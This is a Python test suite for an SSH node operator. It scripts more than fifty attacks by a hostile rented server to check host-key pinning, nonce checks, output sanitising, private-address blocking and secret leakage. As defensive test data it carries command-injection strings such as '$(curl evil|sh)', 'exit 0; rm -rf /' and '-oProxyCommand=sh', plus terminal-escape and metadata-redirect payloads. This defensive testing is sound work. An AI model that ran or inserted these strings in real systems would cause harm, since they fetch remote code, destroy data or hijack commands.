"""Scripted attacks of a rented server on whoever looks after it, one after the other, through the real edge.

Whatever the server does, the same must hold: the look ends by itself and says in clean words what it found;
nothing but the nonce check ran before the server was known (S11); no secret of ours is among all that the
server received, and none in what we logged, showed or left on disk (S10); no control character comes
through (S14).
"""

from __future__ import annotations

import ast
import base64
import logging
import socket
import threading
from collections.abc import Callable
from dataclasses import asdict, dataclass, replace
from pathlib import Path
from urllib.parse import quote

import paramiko
import pytest

import clorefleet.node
from clorefleet.config.places import write_private_file
from clorefleet.config.recipes import load_recipes
from clorefleet.domain.errors import NodeError
from clorefleet.domain.identity import LeaseId
from clorefleet.domain.lease import Phase
from clorefleet.domain.node import JobState, NodeView
from clorefleet.domain.order import SshAddress
from clorefleet.domain.text import LINE_MAX_CHARS
from clorefleet.node.operator import NodeOperator
from clorefleet.node.weights import Manifest, WeightFile
from tests.fleet.builders import lease as make_lease
from tests.fleet.builders import order as make_order
from tests.node.hostile_host import HONEST_PROBE, MARK, Answer, HostileHost, Script, say

LEASE = LeaseId("attacked")
CANARIES = {
    "CLORE_API_KEY": "canary-market-key-7f3a91",
    "HF_TOKEN": "hf_canaryhubtoken7f3a91",
    "CLOREFLEET_CANARY": "canary-of-the-environment-7f3a91",
}
KEY, OTHER, ECDSA = (
    paramiko.RSAKey.generate(2048),
    paramiko.RSAKey.generate(2048),
    paramiko.ECDSAKey.generate(),
)
TERMINAL = "\x1b[2J\x1b]52;c;Y3VybCBldmls\x07\x1b]8;;http://evil\x07\r\x9b31m\u202e\u200b\x00"


@dataclass(frozen=True)
class Attack:
    """A script, the phase it comes in, and what is left of the server's standing afterwards."""

    name: str
    phase: Phase
    script: Script
    ends: str
    """`hostile`: the trust is over; `trouble`: the look failed, in words; `lie`: a fatal discrepancy;
    `lost`: no job counts as done; `unhealthy`: it does not serve; `harmless`: the look went well."""
    is_first_contact: bool = False


def flood(piece: bytes, *, into_errors: bool = False) -> Answer:
    def answer(_: HostileHost, channel: paramiko.Channel) -> None:
        block = piece * (1 + 200_000 // len(piece))
        while not channel.closed:
            (channel.sendall_stderr if into_errors else channel.sendall)(block)

    return answer


def silent(_: HostileHost, channel: paramiko.Channel) -> None:
    channel.close()


def cut(_: HostileHost, channel: paramiko.Channel) -> None:
    channel.sendall(b"\n==gpus==\nNVIDIA")
    channel.get_transport().close()


def probe(old: str, new: str) -> Script:
    assert old in HONEST_PROBE
    return Script({"probe": say(HONEST_PROBE.replace(old, new))})


def report(state: str, progress: str = "", log: str = "") -> Script:
    return Script({"read": say(f"{state}\n{MARK}\n{progress}\n{MARK}\n{log}\n")})


def behind(answer: Callable[[bytes], bytes]) -> Script:
    """An engine behind the tunnel that turns a request's bytes into an answer's."""

    def tunnel(channel: paramiko.Channel) -> None:
        request = b""
        while b"\r\n\r\n" not in request or (request[:4] == b"POST" and b"}" not in request):
            chunk = channel.recv(65536)
            if not chunk:
                return
            request += chunk
        channel.sendall(answer(request))
        channel.close()

    return Script(tunnel=tunnel)


def http(body: bytes, head: bytes = b"HTTP/1.1 200 OK", *lines: bytes) -> bytes:
    return b"\r\n".join([head, b"Content-Length: %d" % len(body), *lines, b"", body])


def always(response: bytes) -> Script:
    return behind(lambda _: response)


def healthy_but(body: bytes) -> Script:
    """F16: the readiness route says yes; everything else is `body`."""
    return behind(lambda request: http(b"ok") if b"/health" in request else http(body))


def opens(kind: str) -> Script:
    return Script(after_login=lambda transport: transport.open_channel(kind, ("1.2.3.4", 1), ("5.6.7.8", 2)))


def garbage(data: bytes) -> Script:
    def greet(connection: socket.socket) -> None:
        connection.sendall(data)
        connection.close()

    return Script(greet=greet)


GPU = "NVIDIA GeForce RTX 4090, 24564, 580.95.05, 8.9, 4, 16, 4"
BOMB = "[" * 50_000
NO_ATTACKS = [
    Attack("an honest first contact", Phase.WAITING, Script(), "harmless", True),
    Attack("an honest probe", Phase.PROBING, Script(), "harmless"),
    Attack("an honest image", Phase.INSTALLING, Script(), "harmless"),
    Attack("an honest job", Phase.SYNCING, Script(), "harmless"),
    Attack("an honest engine", Phase.LAUNCHING, always(http(b"ok")), "harmless"),
]
"""What the checks below must let pass."""
ATTACKS = [
    # who it is (F5, S11)
    Attack("another key of the same kind", Phase.PROBING, Script(host_key=OTHER), "hostile"),
    Attack("another kind of key", Phase.PROBING, Script(host_key=ECDSA), "hostile"),
    Attack("another key while serving", Phase.SERVING, Script(host_key=OTHER), "hostile"),
    Attack("a wrong nonce", Phase.WAITING, Script({"nonce": say("f" * 32)}), "hostile", True),
    Attack("no nonce", Phase.WAITING, Script({"nonce": say("")}), "trouble", True),
    Attack("half a nonce", Phase.WAITING, Script({"nonce": say("f" * 31)}), "trouble", True),
    Attack("a hundred nonces to choose from", Phase.WAITING,
           Script({"nonce": say("\n".join(f"{n:032x}" for n in range(100)))}), "hostile", True),
    Attack("a flood of nonces", Phase.WAITING, Script({"nonce": flood(b"0" * 32 + b"\n")}), "trouble", True),
    Attack("a nonce in a terminal's escapes", Phase.WAITING, Script({"nonce": say(TERMINAL)}),
           "trouble", True),
    Attack("a nonce check that fails with words", Phase.WAITING,
           Script({"nonce": say(TERMINAL + "permission denied", 13)}), "trouble", True),
    # how it lets us in
    Attack("a door for passwords only", Phase.WAITING, Script(asks_for="password"), "trouble", True),
    Attack("a door that asks questions", Phase.WAITING, Script(asks_for="keyboard-interactive"),
           "trouble", True),
    Attack("a door for passwords after the pin", Phase.PROBING, Script(asks_for="password"), "trouble"),
    Attack("a banner of garbage", Phase.WAITING, garbage(b"\xff" * 3_000), "trouble", True),
    Attack("a banner without end", Phase.WAITING, garbage(b"x" * 200_000), "trouble", True),
    Attack("lines before the banner", Phase.WAITING, garbage(TERMINAL.encode() + b"\r\n" * 3_000),
           "trouble", True),
    Attack("an impossible packet length", Phase.WAITING,
           garbage(b"SSH-2.0-x\r\n\xff\xff\xff\xff\x00" + b"\x14" * 100), "trouble", True),
    Attack("an old protocol", Phase.WAITING, garbage(b"SSH-1.5-x\r\n"), "trouble", True),
    Attack("a hang-up", Phase.WAITING, garbage(b""), "trouble", True),
    # what it opens on our side
    Attack("a channel to our agent", Phase.PROBING, opens("auth-agent@openssh.com"), "harmless"),
    Attack("a channel to our screen", Phase.PROBING, opens("x11"), "harmless"),
    Attack("a forwarded connection", Phase.PROBING, opens("forwarded-tcpip"), "harmless"),
    Attack("a session on our side", Phase.PROBING, opens("session"), "harmless"),
    # what it prints (F6, G1, G4)
    Attack("a flood instead of a probe", Phase.PROBING, Script({"probe": flood(b"A")}), "trouble"),
    Attack("a flood of errors", Phase.PROBING, Script({"probe": flood(b"\x1b[2J", into_errors=True)}),
           "trouble"),
    Attack("a flood instead of a report", Phase.SYNCING, Script({"read": flood(b"running\n")}), "trouble"),
    Attack("nothing at all", Phase.PROBING, Script({"probe": silent}), "trouble"),
    Attack("a cut in the middle", Phase.PROBING, Script({"probe": cut}), "trouble"),
    Attack("zero bytes and broken UTF-8", Phase.PROBING,
           Script({"probe": say(b"\x00\xff\xfe" + HONEST_PROBE.encode() + b"\xc3")}), "harmless"),
    # what it claims (F9, F10, F11, G5)
    Attack("a GPU named like a terminal", Phase.PROBING, probe("RTX 4090", f"RTX {TERMINAL} 4090"), "lie"),
    Attack("a GPU named like a command", Phase.PROBING,
           probe("NVIDIA GeForce RTX 4090", "$(curl evil|sh); `reboot`"), "lie"),
    Attack("a GPU named without end", Phase.PROBING, probe("RTX 4090", "RTX 4090" + "!" * 30_000),
           "harmless"),
    Attack("a GPU with another's chip", Phase.PROBING, probe(", 8.9,", ", 6.1,"), "lie"),
    Attack("more memory than there is", Phase.PROBING, probe("24564", "9" * 30), "lie"),
    Attack("no GPU, politely", Phase.PROBING, probe(GPU, "No devices were found"), "lie"),
    Attack("an old driver", Phase.PROBING, probe("CUDA Version: 13.0", "CUDA Version: 11.4"), "lie"),
    Attack("a driver of the far future", Phase.PROBING, probe("CUDA Version: 13.0",
           "CUDA Version: 99999999.0"),
           "harmless"),
    Attack("a hundred thousand digits of RAM", Phase.PROBING, probe("549755813888", "9" * 50_000),
           "harmless"),
    Attack("less RAM", Phase.PROBING, probe("549755813888", "54975581388"), "lie"),
    Attack("a negative disk", Phase.PROBING, probe("2199023255552", "-2199023255552"), "harmless"),
    Attack("a fuller disk", Phase.PROBING, probe("2199023255552", "21990"), "lie"),
    Attack("the same section twice", Phase.PROBING,
           probe("==end==", "==gpus==\nNVIDIA H200, 143771, 1.0\n==end=="), "lie"),
    Attack("a report without its end", Phase.PROBING, probe("==end==", ""), "trouble"),
    Attack("figures that are none", Phase.PROBING,
           Script({"measure": say('{"memory_gb_s": NaN, "download_mbit_s": "fast", "skipped": 7}')}),
           "harmless"),
    Attack("a bomb of figures", Phase.PROBING, Script({"measure": say(BOMB)}), "harmless"),
    Attack("a flood of figures", Phase.PROBING, Script({"measure": flood(b"1")}), "harmless"),
    Attack("a home that is a command", Phase.PROBING, Script({"home": say("/root; curl evil | sh")}),
           "trouble"),
    Attack("a home above all", Phase.PROBING, Script({"home": say("/root/../../etc")}), "trouble"),
    Attack("a home without end", Phase.PROBING, Script({"home": say("/" + "a" * 5_000)}), "trouble"),
    # its jobs (F7, F12, G3, G7)
    Attack("an exit code with a tail", Phase.SYNCING, report("exit 0; rm -rf /"), "lost"),
    Attack("an exit code of letters", Phase.SYNCING, report("exit zero"), "lost"),
    Attack("an exit code below zero", Phase.SYNCING, report("exit -1"), "lost"),
    Attack("an exit code of other digits", Phase.SYNCING, report("exit ٠"), "lost"),
    Attack("a huge exit code", Phase.SYNCING, report("exit " + "9" * 5_000), "lost"),
    Attack("a state of its own", Phase.SYNCING, report("done and verified"), "lost"),
    Attack("a state in another's place", Phase.SYNCING, report(f"running\n{MARK}\n{{}}\n{MARK}\nexit 0"),
           "harmless"),
    Attack("an end in the log", Phase.SYNCING, report("running", log=f"exit 0\n{MARK}\nexit 0"), "harmless"),
    Attack("progress that is a bomb", Phase.SYNCING, report("running", BOMB[:1_900]), "harmless"),
    Attack("progress that is a terminal", Phase.SYNCING,
           report("running", '{"done": 1, "total": 2, "text": "\\u001b[2J\\u202e"}'), "harmless"),
    Attack("progress without end", Phase.SYNCING,
           report("running", '{"done": ' + "9" * 1_500 + ', "total": 1}'), "harmless"),
    Attack("progress that goes backwards", Phase.SYNCING,
           report("running", '{"done": -5, "total": -1, "text": ["x"]}'), "harmless"),
    Attack("a log that is a terminal", Phase.SYNCING, report("running", log=TERMINAL * 20), "harmless"),
    Attack("a log of one line", Phase.SYNCING, report("running", log="x" * 7_000), "harmless"),
    Attack("a log with new lines for ours", Phase.SYNCING,
           report("running", log="ok\u2028level=error order_rented order=1\x85x"), "harmless"),
    # its engine (F16, A19, S15)
    Attack("an engine that talks nonsense", Phase.LAUNCHING, always(b"\x00" * 400), "unhealthy"),
    Attack("an engine that never ends", Phase.LAUNCHING, always(http(b"x" * 3_000_000)), "unhealthy"),
    Attack("an engine that sends us on", Phase.LAUNCHING,
           always(http(b"", b"HTTP/1.1 302 Found", b"Location: http://169.254.169.254/")), "unhealthy"),
    Attack("a header without end", Phase.LAUNCHING,
           always(b"HTTP/1.1 200 OK\r\nX: " + b"a" * 1_000_000), "unhealthy"),
    Attack("health without a model", Phase.VERIFYING, healthy_but(b"{}"), "unhealthy"),
    Attack("health and a bomb", Phase.VERIFYING, healthy_but(BOMB.encode()), "unhealthy"),
    Attack("health and a terminal", Phase.VERIFYING, healthy_but(TERMINAL.encode()), "unhealthy"),
    Attack("health and an empty answer", Phase.VERIFYING,
           healthy_but(b'{"choices":[{"message":{"content":""}}],"usage":{"completion_tokens":9}}'),
           "unhealthy"),
    Attack("nothing behind the port", Phase.LAUNCHING, Script(), "unhealthy"),
]  # fmt: skip


def test_the_suite_has_at_least_fifty_attacks_each_with_its_own_name():
    assert len({attack.name for attack in ATTACKS}) == len(ATTACKS) >= 50


@pytest.fixture
def secrets_about(monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture) -> None:
    for name, value in CANARIES.items():
        monkeypatch.setenv(name, value)
    caplog.set_level(logging.DEBUG)


@pytest.mark.parametrize("attack", NO_ATTACKS + ATTACKS, ids=lambda attack: attack.name)
def test_an_attack_ends_as_it_should_and_gains_nothing(
    attack: Attack, tmp_path: Path, secrets_about: None, caplog: pytest.LogCaptureFixture
):
    state = tmp_path / "state"
    operator = NodeOperator(state, hub_url="http://127.0.0.1:9", recipes=load_recipes(), allow_loopback=True)
    operator.prepare(LEASE)
    host = HostileHost(attack.script, KEY, (state / "keys" / LEASE / "nonce").read_text())
    pinned = "" if attack.is_first_contact else f"{KEY.get_name()} {KEY.get_base64()}"
    lease = make_lease(lease_id=LEASE, phase=attack.phase, host_key=pinned, launches=1)
    with host.serve() as address:
        view = operator.look(replace(lease, address=address), make_order(ssh=address))
        operator.close()
    assert _standing(view, attack) == attack.ends, view
    _check_words(view)
    _check_trust(host, attack)
    _check_secrets(host, view, state, caplog)


def _standing(view: NodeView, attack: Attack) -> str:
    if view.is_hostile:
        return "hostile"
    if any(each.is_fatal for each in view.discrepancies):
        return "lie"
    if attack.phase in (Phase.LAUNCHING, Phase.VERIFYING, Phase.SERVING):
        return "harmless" if view.is_healthy and view.answered is not False else "unhealthy"
    if view.trouble:
        return "trouble"
    if view.job is not None and view.job.state is JobState.LOST:
        return "lost"
    assert view.job is None or view.job.state is JobState.RUNNING
    return "harmless"


def _check_words(view: NodeView) -> None:
    texts = [view.trouble, view.job_diagnosis, view.host_key]
    texts += [text for each in view.discrepancies for text in (each.offered, each.found)]
    if view.job is not None:
        texts += [view.job.progress_text, *view.job.log_tail]
    if view.facts is not None:
        texts += [view.facts.cpu_model, view.facts.driver_version, view.facts.python_version]
        texts += [text for gpu in view.facts.gpus for text in (gpu.name, gpu.compute_capability)]
        texts += view.facts.measured.skipped if view.facts.measured is not None else ()
    for text in texts:
        assert len(text) <= 2 * LINE_MAX_CHARS
        assert all(char.isprintable() for char in text), repr(text)


def _check_trust(host: HostileHost, attack: Attack) -> None:
    """Before the nonce was shown only the nonce check may run, and only our key may open the door."""
    assert set(host.logins) <= {"publickey"}
    assert host.opened == []
    if attack.is_first_contact and attack.ends != "harmless":
        assert set(host.kinds) <= {"nonce"}
    if attack.ends == "hostile" and not attack.is_first_contact:
        assert (host.kinds, host.received) == ([], b""), "nothing goes to a server with another key"


def _check_secrets(host: HostileHost, view: NodeView, state: Path, caplog: pytest.LogCaptureFixture) -> None:
    folder = state / "keys" / LEASE
    secrets = list(CANARIES.values())
    secrets += [(folder / name).read_text() for name in ("password", "host_key", "id_ed25519")]
    secrets += [text for text in secrets[-2:] for text in text.splitlines()[1:-1]]
    shown = repr(asdict(view)).encode() + caplog.text.encode()
    kept = b"".join(
        file.read_bytes() for file in state.rglob("*") if file.is_file() and folder not in file.parents
    )
    for secret in [*secrets, host.nonce]:
        for form in (secret, quote(secret, safe=""), base64.b64encode(secret.encode()).decode().rstrip("=")):
            assert form.encode() not in host.received
            assert form.encode() not in shown
            assert form.encode() not in kept


@pytest.mark.parametrize(
    "host",
    ["127.0.0.1", "127.8.8.8", "localhost", "0.0.0.0", "0", "2130706433", "0x7f000001", "127.1", "::1", "::",
     "::ffff:127.0.0.1", "::ffff:10.0.0.1", "10.0.0.1", "172.16.0.1", "192.168.1.1", "100.64.0.1",
     "169.254.169.254", "fe80::1", "fe80::1%lo", "fd00:ec2::254", "fc00::1", "224.0.0.1", "255.255.255.255",
     "64:ff9b::7f00:1", "2002:7f00:1::"],
)  # fmt: skip
def test_an_address_of_our_own_network_is_never_dialled(host: str, tmp_path: Path):
    """G6: as numbers, names and notations; outside the sandbox none of them can be a rented server."""
    operator = NodeOperator(
        tmp_path, hub_url="http://127.0.0.1:9", recipes=load_recipes(), allow_loopback=False
    )
    operator.prepare(LEASE)
    with socket.create_server(("127.0.0.1", 0)) as listener:
        port = listener.getsockname()[1]
        view = operator.look(make_lease(lease_id=LEASE), make_order(ssh=SshAddress((host,), port)))
        listener.settimeout(0)
        with pytest.raises(BlockingIOError):
            listener.accept()
    assert view.is_hostile or "does not answer" in view.trouble  # no resolver took it for an address
    assert view.trouble.isprintable()


@pytest.mark.parametrize(
    "host", ["", " ", "a\x00b", "evil\nhost", "-oProxyCommand=sh", "x" * 5_000, "\x1b[2J", "é" * 80]
)
@pytest.mark.parametrize("port", [22, 0, 70_000, -1])
def test_an_address_that_is_none_is_trouble_in_clean_words(host: str, port: int, tmp_path: Path):
    operator = NodeOperator(
        tmp_path, hub_url="http://127.0.0.1:9", recipes=load_recipes(), allow_loopback=False
    )
    operator.prepare(LEASE)
    view = operator.look(make_lease(lease_id=LEASE), make_order(ssh=SshAddress((host,), port)))
    assert view.trouble and view.trouble.isprintable() and len(view.trouble) < LINE_MAX_CHARS


@pytest.mark.parametrize(
    "answers",
    [
        {"put": say("no", 1)},
        {"put": silent},
        {"start": say("\x1b[2Jmaybe")},
        {"start": say("started", 1)},
        {"start": flood(b"started\n")},
        {"home": say("$(reboot)")},
    ],
    ids=["no place", "no word", "an odd word", "a failing word", "a flood of words", "an odd home"],
)
def test_work_that_cannot_be_started_is_told_and_leaves_no_secret(
    answers: dict[str, Answer], tmp_path: Path, secrets_about: None, caplog: pytest.LogCaptureFixture
):
    state = tmp_path / "state"
    operator = NodeOperator(state, hub_url="http://127.0.0.1:9", recipes=load_recipes(), allow_loopback=True)
    operator.prepare(LEASE)
    manifest = Manifest("org/model", "a" * 40, (WeightFile("m.gguf", 3, sha256="b" * 64),))
    (state / "manifests").mkdir()
    write_private_file(state / "manifests" / f"{LEASE}.json", manifest.to_json())
    host = HostileHost(Script(answers), KEY, (state / "keys" / LEASE / "nonce").read_text())
    lease = make_lease(lease_id=LEASE, phase=Phase.SYNCING, host_key=f"{KEY.get_name()} {KEY.get_base64()}")
    with host.serve() as address, pytest.raises(NodeError) as caught:
        operator.start_work(replace(lease, address=address), Phase.SYNCING, 1)
    operator.close()
    assert caught.value.what.isprintable()
    _check_secrets(host, NodeView(), state, caplog)


def test_a_server_that_reads_nothing_does_not_hold_the_thread_that_feeds_it(tmp_path: Path):
    """A window that never opens: the start of a job ends by its own time limit, and no thread is left."""
    operator = NodeOperator(
        tmp_path, hub_url="http://127.0.0.1:9", recipes=load_recipes(), allow_loopback=True
    )
    operator.prepare(LEASE)
    host = HostileHost(
        Script({"probe": say(HONEST_PROBE), "put": lambda _, channel: channel.close()}),
        KEY,
        (tmp_path / "keys" / LEASE / "nonce").read_text(),
    )
    lease = make_lease(lease_id=LEASE, phase=Phase.PROBING, host_key=f"{KEY.get_name()} {KEY.get_base64()}")
    before = threading.active_count()
    with host.serve() as address:
        for _ in range(3):
            operator.look(replace(lease, address=address), make_order(ssh=address))
        operator.close()
    for thread in threading.enumerate():
        if thread is not threading.current_thread() and not thread.name.startswith("pytest"):
            thread.join(1)
    assert threading.active_count() <= before + 3


def test_no_archive_of_a_server_is_ever_unpacked_by_us():
    """G2: there is nothing to defend, and this keeps it so."""
    for file in Path(clorefleet.node.__file__).parent.rglob("*.py"):
        names = {
            name.split(".")[0]
            for node in ast.walk(ast.parse(file.read_text("utf-8")))
            if isinstance(node, (ast.Import, ast.ImportFrom))
            for name in [getattr(node, "module", None) or "", *(alias.name for alias in node.names)]
        }
        assert not names & {"tarfile", "zipfile", "shelve", "pickle", "marshal", "yaml"}, file
